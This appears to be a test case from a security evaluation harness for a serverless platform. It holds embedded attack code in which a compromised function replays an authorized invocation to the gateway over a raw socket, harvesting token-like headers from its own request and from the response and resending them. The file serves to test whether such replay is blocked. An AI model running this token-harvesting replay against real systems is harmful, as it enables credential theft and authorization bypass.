"""Scenario 2f: the exploited master sends an invocation that it may make once a second time, byte by byte."""

from experiments.attacks.case import Case, Match
from experiments.entries import MASTER

# The two requests differ in the marker alone, or nobody could tell one from the other. The second goes out on a connection of its own,
# first as it was and then with every field that looks like a token: of the request that started this function, and of the answer.
CASE = Case(
    name="token-replay",
    category="scenario-2",
    claim="the bytes of an invocation that was allowed are sent again, with whatever the function saw of its token",
    exploits={
        MASTER: """
            import json, os, re, socket, requests
            marker = "@REVERSED@"[::-1]
            received = requests.post(os.environ["URL_RECEIVE"], json=event.body, timeout=30).json()
            def send(mark, fields):
                body = json.dumps({"photographer": received["photographer"], "mark": mark}).encode()
                lines = ["POST /function/product-photos-4-success HTTP/1.1", "Host: gateway:8080", "Content-Type: application/json", *fields,
                         f"Content-Length: {len(body)}", "Connection: close"]
                answer = b""
                with socket.create_connection(("gateway", 8080), timeout=10) as connection:
                    connection.sendall("\\r\\n".join(lines).encode() + b"\\r\\n\\r\\n" + body)
                    while piece := connection.recv(65536):
                        answer += piece
                return answer
            answer = send(marker[::-1], [])
            saw = [*map(": ".join, event.headers.items()), *answer.partition(b"\\r\\n\\r\\n")[0].decode("latin-1").split("\\r\\n")[1:]]
            alike = [line for line in saw if re.match("x-|.*token", line, re.IGNORECASE)]
            values = [line.partition(": ")[2] for line in alike]
            for fields in ([], alike, *(["X-Kalium-Token: " + value] for value in values)):
                try:
                    send(marker, fields)
                except OSError:
                    pass
        """,
    },
    attacker=MASTER,
    allowed_first=Match(("invoke",), "product-photos-4-success"),
    denied=Match(("invoke",), "product-photos-4-success"),
    at_receiver=None,
)
